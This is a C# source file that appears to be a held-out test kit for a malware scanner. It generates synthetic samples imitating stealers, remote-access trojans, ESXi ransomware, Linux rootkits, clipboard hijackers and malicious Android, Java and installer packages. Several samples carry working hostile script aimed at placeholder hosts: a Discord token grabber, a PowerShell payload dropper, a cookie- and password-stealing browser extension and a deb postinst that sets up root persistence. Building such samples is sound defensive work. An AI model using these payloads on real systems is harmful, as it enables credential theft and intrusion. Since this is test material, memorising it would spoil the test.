using System.Text;
using ScanHost.TestKit.HeldOut.Fourth;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Fifth;

/// <summary>Windows thieves as compilers of today leave them: Go, Rust, AutoIt, an archive of Electron.</summary>
public sealed class ThiefOfToday : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("GTA6_beta_installer.exe", new PeBuilder().WithCode([0xC3, .. Filler.Noise(1000, 30000)]).Importing("kernel32.dll", "WriteFile", "WaitForMultipleObjects", "VirtualAlloc", "SetUnhandledExceptionFilter", "LoadLibraryExW", "GetProcAddress", "CreateThread").WithData("Go build ID: \"aBcD/eFgH\"\0runtime.goexit\0main.grabBrowsers\0main.(*Chromium).DecryptKey\0main.killChrome\0github.com/kbinani/screenshot\0Local Extension Settings\0nkbihfbeogaeaoehlefnkodbefgpgknn\0\\Google\\Chrome\\User Data\0encrypted_key\0Login Data\0os_crypt\0app_bound_encrypted_key\0Telegram Desktop\\tdata\0http://203.0.113.140/api/upload\0/c taskkill /F /IM chrome.exe\0").Build());
        yield return ("LummaLoader_setup.exe", new PeBuilder().WithCode([0xC3, .. Filler.Noise(1001, 90000)], 0x60000020, ".text").Importing("KERNEL32.dll", "GetProcAddress", "LoadLibraryExW", "VirtualProtect", "GetUserDefaultUILanguage", "ExitProcess").Importing("WINHTTP.dll", "WinHttpOpen", "WinHttpConnect", "WinHttpOpenRequest", "WinHttpSendRequest", "WinHttpReadData").Importing("GDI32.dll", "BitBlt", "CreateCompatibleDC").Importing("USER32.dll", "GetClipboardData", "OpenClipboard").WithData("act=life\0act=recive_message&ver=4.0&lid=\0hwid\0pid\0TeslaBrowser/5.5\0Content-Type: multipart/form-data; boundary=be85de5ipdocierre1\0/api\0wallets/\0\\Local State\0%appdata%\\Ethereum\0%localappdata%\\Coinomi\\Coinomi\\wallets\0*.kbdx\0shop.lum-panel.example\0").Build());
        yield return ("Document_viewer.exe", new PeBuilder().Importing("KERNEL32.dll", "FindResourceW", "LoadResource", "CreateProcessW").WithOverlay([0xA3, 0x48, 0x4B, 0xBE, 0x98, 0x6C, 0x4A, 0xA9, 0x99, 0x4C, 0x53, 0x0A, 0x86, 0xD6, 0x48, 0x7D, .. "AU3!EA06"u8, .. Filler.Noise(1002, 50000)]).WithData(">>>AUTOIT SCRIPT<<<\0This is a third-party compiled AutoIt script.\0#NoTrayIcon\0DllCall(\"kernel32\",\"ptr\",\"VirtualAllocEx\")\0").Build());
        yield return ("NeuraGame Setup 1.0.exe", new PeBuilder().Importing("KERNEL32.dll", "CreateProcessW", "GetTempPathW").WithData("Nullsoft Install System v3.04\0").WithOverlay([0xEF, 0xBE, 0xAD, 0xDE, .. "NullsoftInst"u8, .. InertFiles.Zip(("resources/app/package.json", Utf8("{\"name\":\"neuragame\",\"main\":\"main.js\"}")), ("resources/app/main.js", Utf8("const{app}=require('electron'),cp=require('child_process'),fs=require('fs'),axios=require('axios');const hook='https://discord-relay.thief-now.example/api/webhooks/0/x';app.whenReady().then(async()=>{cp.execSync('taskkill /F /IM discord.exe');for(const d of ['discord','discordcanary']){const p=process.env.LOCALAPPDATA+'/'+d;/* index.js injection placeholder */}const t=grabTokens_placeholder(process.env.APPDATA+'/discord/Local Storage/leveldb',/dQw4w9WgXcQ:[^\"]*/g);axios.post(hook,{content:JSON.stringify(t)});cp.exec('schtasks /create /tn WindowsTask /sc onlogon /tr \"'+process.execPath+'\" /f')});\n")))]).Build());
    }
}

/// <summary>Libraries beside honest programs, drivers' killers, panels and screen savers.</summary>
public sealed class LibraryBesideProgram : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("version.dll", new PeBuilder().Exporting("version.dll", "GetFileVersionInfoA", "GetFileVersionInfoSizeA", "GetFileVersionInfoW", "VerQueryValueA", "VerQueryValueW").Importing("KERNEL32.dll", "VirtualAlloc", "VirtualProtect", "CreateThread", "CreateFileA", "ReadFile", "GetModuleFileNameA").Importing("ntdll.dll", "NtCreateThreadEx", "NtQueueApcThread").WithData("\\license.dat\0rc4key_9f2\0EtwEventWrite\0AmsiScanBuffer\0https://side.load-lib.example/submit.php?id=%d\0").WithOverlay(Filler.Noise(1010, 4000)).Build());
        yield return ("Screensaver_Aquarium.scr", new PeBuilder().WithCode([0xC3, .. Filler.Noise(1011, 40000)], 0xE0000020).Importing("kernel32.dll", "VirtualAllocEx", "WriteProcessMemory", "QueueUserAPC", "CreateProcessA", "ResumeThread").WithData("C:\\Windows\\SysWOW64\\svchost.exe\0cmd.exe /c ping 127.0.0.1 -n 6 && del \"%s\"\0").Build());
        yield return ("smbkill.exe", new PeBuilder().Importing("KERNEL32.dll", "DeviceIoControl", "CreateFileW", "CreateToolhelp32Snapshot", "Process32NextW").Importing("ADVAPI32.dll", "CreateServiceW", "StartServiceW", "OpenSCManagerW").WithData("\\\\.\\RTCore64\0\\\\.\\TrueSight\0\\\\.\\Warsaw_PM\0MsMpEng.exe\0SentinelAgent.exe\0CSFalconService.exe\0cb.exe\0SophosFS.exe\0ekrn.exe\0truesight.sys\0\\Registry\\Machine\\System\\CurrentControlSet\\Services\\%ws\0[+] Terminated %ws\0").WithOverlay(InertFiles.Pe(16384)).Build());
        yield return ("Display.cpl", new PeBuilder().Exporting("display.cpl", "CPlApplet", "DllMain").Importing("kernel32.dll", "GetTempPathA", "CreateProcessA").Importing("wininet.dll", "InternetOpenUrlA", "InternetReadFile").WithData("https://cpl.load-lib.example/k.bin\0regsvr32.exe /s \"%s\"\0Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\0").Build());
    }
}

/// <summary>.NET programs of further families.</summary>
public sealed class ManagedThief : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("DHL Shipment Notification.exe", NetImage.Build("vNbPKQ", "A.b", ["System.Net.Mail/SmtpClient/Send", "System.Net.Mail/MailMessage/set_Body", "System.Drawing/Graphics/CopyFromScreen", "System.Windows.Forms/Clipboard/GetText", "Microsoft.Win32/RegistryKey/SetValue"],
            ["smtp.mail-exfil.example", "587", "<br>Time: ", "User Name: ", "PW_", "KL_", "SC_", "%chatid%", "\\Thunderbird\\Profiles\\", "Software\\Microsoft\\Office\\16.0\\Outlook\\Profiles\\Outlook\\9375CFF0413111d3B88A00104B2A6676", "IMAP Password", "\\CoreFTP\\sites.idx", "HKEY_CURRENT_USER\\Software\\FTPWare\\COREFTP\\Sites", "{BACK}", "{ALT+TAB}", "https://api.ipify.org"], natives: ["user32/SetWindowsHookEx", "user32/GetKeyboardState", "vaultcli/VaultEnumerateItems"]));
        yield return ("XClient.exe", NetImage.Build("XClient", "Stub.Main", ["System.Net.Sockets/Socket/Connect", "System.Security.Cryptography/RijndaelManaged/CreateDecryptor", "System.Diagnostics/Process/EnterDebugMode", "System.IO/File/Copy", "System.Threading/Mutex/.ctor"],
            ["XWorm V5.6", "<Xwormmm>", "pastebin-raw.xw-host.example", "USB.exe", "%AppData%", "schtasks.exe", "/create /f /RL HIGHEST /sc minute /mo 1 /tn \"", "Set-MpPreference -ExclusionPath", "StartDDos", "Plugin", "savePlugin", "RunRecovery", "SELECT * FROM Win32_ComputerSystem", "VirtualBox", "ip-api.com/line/?fields=hosting"], natives: ["avicap32/capGetDriverDescriptionA", "ntdll/RtlSetProcessIsCritical", "user32/GetLastInputInfo"]));
        yield return ("NewOrder_88120.exe", NetImage.Build("Ytuqbh", "Ytuqbh.Workers.Maker", ["System.Net.Http/HttpClient/GetByteArrayAsync", "System.Security.Cryptography/TripleDESCryptoServiceProvider/CreateDecryptor", "System/AppDomain/Load", "System.Reflection/Assembly/GetExportedTypes", "System/Type/InvokeMember", "System.IO.Compression/GZipStream/.ctor"], ["https://files.pure-load.example/Kzvwxy.mp3", "OrIGkY7Jk3L=", "Sandbox", "cmd /c timeout 20"], Filler.Noise(1020, 60000)));
        yield return ("SvcHostClip.exe", NetImage.Build("clip", "Clp.Program", ["System.Windows.Forms/Clipboard/SetText", "System.Windows.Forms/Clipboard/GetText", "System.Text.RegularExpressions/Regex/IsMatch", "System.IO/File/SetAttributes"], ["\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{26,45}\\b", "\\b0x[a-fA-F0-9]{40}\\b", "\\b4([0-9]|[A-B])(.){93}\\b", "bc1qexampleexampleexample", "0x0000000000000000000000000000000000000bad", "4ExampleMoneroWallet", "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\", "/create /sc MINUTE /mo 1 /tn \"NvTmRep\""], natives: ["user32/AddClipboardFormatListener", "user32/SetParent"]));
    }
}

/// <summary>Linux programs and libraries of further kinds.</summary>
public sealed class LinuxProgramOfFurtherKinds : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("kdmtmpflush", ElfImage.Build(62, ["/sbin/udevd -d", "/sbin/mingetty /dev/tty7", "/usr/sbin/console-kit-daemon --no-daemon", "hald-addon-acpi: listening on acpi kernel interface /proc/acpi/event", "/dev/shm/kdmtmpflush", "/bin/rm -f /dev/shm/%s;/bin/cp %s /dev/shm/%s && /bin/chmod 755 /dev/shm/%s && /dev/shm/%s --init", "/sbin/iptables -t nat -D PREROUTING -p tcp -s %s --dport %d -j REDIRECT --to-ports %d", "setsockopt SO_ATTACH_FILTER", "socket AF_PACKET SOCK_RAW", "PS1=[\\u@\\h \\W]\\\\$ ", "HISTFILE=/dev/null", "MYSQL_HISTFILE=/dev/null", "/bin/sh", "qmgr -l -t fifo -u"]));
        yield return ("encrypt", ElfImage.Build(62, ["usage: encrypt <public key> <file> [<enc_step>] [<enc_size>] [<file_size>]", "/vmfs/volumes/", ".vmdk", ".vmsn", ".vmem", "esxcli vm process kill --type=force --world-id=%s", "esxcli --formatter=csv --format-param=fields==\"WorldID,DisplayName\" vm process list", "How to Restore Your Files", "Your data has been stolen and encrypted. Contact us at http://exampleonionexample.onion.example", "sosemanuk", "RSA_public_encrypt", "PEM_read_bio_RSA_PUBKEY", ".args", "Wrong public key"]));
        yield return ("libprocesshider.so", Shared(ElfImage.Build(62, ["readdir", "readdir64", "dlsym", "/proc/self/fd/%d", "/proc/%s/stat", "xmrig", "process_to_filter", "/etc/ld.so.preload", "accept", "pam_get_item", "HIDE_THIS_SHELL", "/lib/x86_64-linux-gnu/libselinux.so", "rootme", "magic", "execve", "/bin/bash"])));
        yield return ("apache2-worker", ElfImage.Build(183, ["Go buildinf:", "go1.21.6", "main.(*Bot).scanSSH", "main.bruteforce", "main.minerStart", "golang.org/x/crypto/ssh", "/root/.ssh/known_hosts", "stratum+ssl://pool.elf-kind.example:443", "RandomX", "crontab -l | grep -v %s", "chattr -i /etc/crontab", "root:123456", "admin:admin", "ubuntu:ubuntu", "/tmp/.xri/xri", "cmd/udpflood.Start", "https://c2.elf-kind.example/v2/beat"], code: [0xC0, 0x03, 0x5F, 0xD6, .. Filler.Noise(1031, 20000)]));
    }

    // A shared object, ET_DYN of the gABI.
    private static byte[] Shared(byte[] image)
    {
        image[16] = 3;
        return image;
    }
}

/// <summary>Android packages and Java archives of further kinds.</summary>
public sealed class PhoneAndJavaThief : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("RTO_Challan.apk", InertFiles.Zip(
            ("AndroidManifest.xml", Manifest("com.rto.challan", "RTO Challan", ["RECEIVE_SMS", "READ_SMS", "SEND_SMS", "CALL_PHONE", "READ_PHONE_NUMBERS", "FOREGROUND_SERVICE_SPECIAL_USE", "RECEIVE_BOOT_COMPLETED", "REQUEST_IGNORE_BATTERY_OPTIMIZATIONS", "REQUEST_INSTALL_PACKAGES"], "android.permission.BIND_NOTIFICATION_LISTENER_SERVICE")),
            ("classes.dex", Dex("Landroid/telephony/SmsManager;", "sendTextMessage", "createFromPdu", "https://api.telegram.org/bot0:AAFake/sendMessage?chat_id=-100", "*21*%s#", "call_forward", "hideAppIcon", "setComponentEnabledSetting")),
            ("assets/pay.html", Utf8("<form><input name=mobile placeholder='Mobile No'><input name=aadhaar placeholder='Aadhaar'><input name=upi type=password placeholder='UPI PIN'><button>Pay ₹1</button></form>"))));
        yield return ("Photos_Viewer.apk", InertFiles.Zip(
            ("AndroidManifest.xml", Manifest("com.android.spynote.client", "Gallery", ["RECORD_AUDIO", "CAMERA", "READ_CONTACTS", "READ_CALL_LOG", "ACCESS_FINE_LOCATION", "ACCESS_BACKGROUND_LOCATION", "READ_SMS", "SYSTEM_ALERT_WINDOW", "BIND_ACCESSIBILITY_SERVICE", "DISABLE_KEYGUARD", "REORDER_TASKS"], "android.permission.BIND_ACCESSIBILITY_SERVICE")),
            ("classes.dex", Dex("Landroid/accessibilityservice/AccessibilityService;", "dispatchGesture", "performGlobalAction", "Ldalvik/system/InMemoryDexClassLoader;", "MediaRecorder", "startProjection", "takeScreenshot", "KeyLogger", "spy.phone-thief.example", "7771", "uninstall_block", "com.google.android.apps.authenticator2")),
            ("res/raw/google.apk", InertFiles.Zip(("AndroidManifest.xml", Manifest("com.inner.pay", "x", ["RECEIVE_SMS"], "android.permission.BIND_DEVICE_ADMIN")), ("classes.dex", Dex("loadClass", "Ldalvik/system/DexClassLoader;"))))));
        yield return ("SkyClient-mod-1.8.9.jar", InertFiles.Zip(
            ("META-INF/MANIFEST.MF", Dos("Manifest-Version: 1.0\nTweakClass: com.example.Tweaker\nForceLoadAsMod: true\n\n")),
            ("mcmod.info", Utf8("[{\"modid\":\"skyclient\",\"name\":\"Skyblock Dupe\",\"version\":\"1.0\",\"authorList\":[\"x\"]}]")),
            ("com/example/Mod.class", JavaClass.Build("com/example/Mod", ["net/minecraft/util/Session getToken ()Ljava/lang/String;", "java/net/HttpURLConnection setRequestMethod (Ljava/lang/String;)V", "java/lang/ProcessBuilder start ()Ljava/lang/Process;"], ["https://discord.com/api/webhooks/0/fake", "https://ratted.jar-thief.example/submit", "{\"username\":\"%s\",\"token\":\"%s\",\"uuid\":\"%s\",\"feather\":\"%s\",\"essential\":\"%s\"}", "/AppData/Roaming/.feather/accounts.json", "Lunar Client/settings/game/accounts.json", "dQw4w9WgXcQ:", "\\Google\\Chrome\\User Data\\Default\\Login Data"]))));
        yield return ("Shipping Label.jar", InertFiles.Zip(
            ("META-INF/MANIFEST.MF", Dos("Manifest-Version: 1.0\nMain-Class: a.a\n\n")),
            ("a/a.class", JavaClass.Build("a/a", ["javax/crypto/Cipher doFinal ([B)[B", "java/lang/ClassLoader defineClass (Ljava/lang/String;[BII)Ljava/lang/Class;", "java/lang/Class getResourceAsStream (Ljava/lang/String;)Ljava/io/InputStream;", "java/lang/Runtime exec ([Ljava/lang/String;)Ljava/lang/Process;"], ["/a/x.bin", "PBKDF2WithHmacSHA1", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v \"%s\" /d \"javaw.exe -jar %s\" /f", "https://repo1.maven.org/maven2/net/java/dev/jna/jna/5.5.0/jna-5.5.0.jar", "http://jbfrost.jar-thief.example/strigoi/server/?hwid=1&lid=m&ht=5", "rdp_hidden", "ransom", ".crimson"])),
            ("a/x.bin", Filler.Noise(1041, 60000))));
    }

    private static byte[] Dex(params string[] strings) => [.. "dex\n035\0"u8, .. new byte[104], .. Utf8(string.Join('\0', strings) + "\0")];

    private static byte[] Manifest(string package, string label, string[] permissions, string service)
    {
        var manifest = new AndroidXml().Open("manifest", ("package", package), ("versionName", "1.0"));
        foreach (var permission in permissions)
            manifest.Leaf("uses-permission", ("name", "android.permission." + permission));
        return manifest.Open("application", ("label", label))
            .Open("service", ("name", ".S"), ("permission", service)).Close("service")
            .Open("receiver", ("name", ".R")).Open("intent-filter").Leaf("action", ("name", "android.provider.Telephony.SMS_RECEIVED")).Leaf("action", ("name", "android.intent.action.BOOT_COMPLETED")).Close("intent-filter").Close("receiver")
            .Close("application").Close("manifest").Build();
    }
}

/// <summary>Packages of Windows' app installer, add-ons and other installers that run a script.</summary>
public sealed class AppPackageThatRuns : FifthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Zoom-x64.msix", InertFiles.Zip(
            ("AppxManifest.xml", Utf8("<?xml version=\"1.0\"?><Package xmlns=\"http://schemas.microsoft.com/appx/manifest/foundation/windows10\" xmlns:rescap=\"http://schemas.microsoft.com/appx/manifest/foundation/windows10/restrictedcapabilities\"><Identity Name=\"Zoom.Video\" Publisher=\"CN=Example Trade LTD, O=Example Trade LTD, C=GB\" Version=\"5.17.0.0\"/><Properties><DisplayName>Zoom</DisplayName><PublisherDisplayName>Zoom</PublisherDisplayName></Properties><Applications><Application Id=\"APP\" Executable=\"VFS\\ProgramFilesX64\\PsfLauncher64.exe\" EntryPoint=\"Windows.FullTrustApplication\"/></Applications><Capabilities><rescap:Capability Name=\"runFullTrust\"/></Capabilities></Package>")),
            ("config.json", Utf8("{\"processes\":[{\"executable\":\".*\",\"fixups\":[]}],\"applications\":[{\"id\":\"APP\",\"startScript\":{\"scriptExecutionMode\":\"-ExecutionPolicy RemoteSigned\",\"scriptPath\":\"run.ps1\",\"runInVirtualEnvironment\":false,\"showWindow\":false}}]}")),
            ("run.ps1", Dos("$u='https://msix.app-run.example/zm.tar.gpg'\n$os=(Get-WmiObject Win32_OperatingSystem).Caption;$av=(Get-WmiObject -Namespace root\\SecurityCenter2 -Class AntiVirusProduct).displayName -join ','\niwr \"https://msix.app-run.example/?status=start&av=$av&os=$os\" -UseBasicParsing\niwr $u -OutFile $env:APPDATA\\zm.gpg; echo 'riudswrk' | .\\gpg.exe --batch --yes --passphrase-fd 0 --decrypt --output $env:APPDATA\\zm.rar $env:APPDATA\\zm.gpg\ntar -xf $env:APPDATA\\zm.rar -C $env:APPDATA; start $env:APPDATA\\client\\client32.exe\n"))));
        yield return ("Adobe.appinstaller", Utf8("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<AppInstaller Uri=\"https://adobe.app-run.example/Adobe.appinstaller\" Version=\"1.0.0.0\" xmlns=\"http://schemas.microsoft.com/appx/appinstaller/2018\">\n  <MainBundle Name=\"3669e262-ec02-4e9d-bcb4-3d008b4afac9\" Version=\"12.1.0.0\" Publisher=\"CN=Example Consulting\" Uri=\"https://storage.app-run.example/Adobe_1.7.0.0_x64.appxbundle\"/>\n  <UpdateSettings><OnLaunch HoursBetweenUpdateChecks=\"0\" UpdateBlocksActivation=\"true\" ShowPrompt=\"false\"/><AutomaticBackgroundTask/></UpdateSettings>\n</AppInstaller>\n"));
        yield return ("ad-blocker-pro.xpi", InertFiles.Zip(
            ("manifest.json", Utf8("{\"manifest_version\":2,\"name\":\"Ad Blocker Pro\",\"version\":\"3.1\",\"permissions\":[\"<all_urls>\",\"cookies\",\"webRequest\",\"webRequestBlocking\",\"tabs\",\"storage\",\"clipboardWrite\"],\"background\":{\"scripts\":[\"b.js\"]},\"content_scripts\":[{\"matches\":[\"<all_urls>\"],\"js\":[\"c.js\"],\"all_frames\":true}],\"content_security_policy\":\"script-src 'self' 'unsafe-eval' https://ext.app-run.example; object-src 'self'\"}")),
            ("b.js", Utf8("let k='https://ext.app-run.example';browser.cookies.getAll({}).then(c=>fetch(k+'/c',{method:'POST',body:JSON.stringify(c)}));setInterval(()=>fetch(k+'/j').then(r=>r.text()).then(s=>new Function(s)()),9e5);browser.webRequest.onBeforeSendHeaders.addListener(d=>{const a=d.requestHeaders.find(h=>/^authorization$/i.test(h.name));if(a)navigator.sendBeacon(k+'/a',d.url+' '+a.value)},{urls:['<all_urls>']},['requestHeaders']);\n")),
            ("c.js", Utf8("addEventListener('keydown',e=>{(window.__b=window.__b||[]).push(e.key);if(__b.length>40)browser.runtime.sendMessage({u:location.href,k:__b.splice(0)})},true);document.querySelectorAll('input[type=password]').forEach(i=>i.addEventListener('change',()=>browser.runtime.sendMessage({u:location.href,p:i.value})));\n"))));
        yield return ("setup_helper.deb", Deb(
            ("./postinst", Utf8("#!/bin/sh\nset -e\ncurl -fsSL https://deb.app-run.example/p -o /usr/lib/systemd/systemd-resolvd && chmod 755 /usr/lib/systemd/systemd-resolvd\n(crontab -u root -l 2>/dev/null; echo '@reboot /usr/lib/systemd/systemd-resolvd >/dev/null 2>&1') | crontab -u root -\nnohup /usr/lib/systemd/systemd-resolvd >/dev/null 2>&1 &\nrm -f /var/lib/dpkg/info/setup-helper.postinst\n")),
            ("./control", Utf8("Package: setup-helper\nVersion: 1.0\nArchitecture: amd64\nMaintainer: Support <support@deb.app-run.example>\nDescription: browser helper\n"))));
    }

    // ar(5) with the three members of deb(5).
    private static byte[] Deb(params (string Name, byte[] Content)[] control)
    {
        var file = new MemoryStream();
        file.Write("!<arch>\n"u8);
        foreach (var (name, content) in new[] { ("debian-binary", Encoding.ASCII.GetBytes("2.0\n")), ("control.tar.gz", Tarball.Gzipped(control)), ("data.tar.gz", Tarball.Gzipped(("./usr/share/doc/setup-helper/readme", Encoding.ASCII.GetBytes("helper\n")))) })
        {
            file.Write(Encoding.ASCII.GetBytes($"{name,-16}{"1700000000",-12}{"0",-6}{"0",-6}{"100644",-8}{content.Length,-10}`\n"));
            file.Write(content);
            if (content.Length % 2 == 1)
                file.WriteByte((byte)'\n');
        }
        return file.ToArray();
    }
}
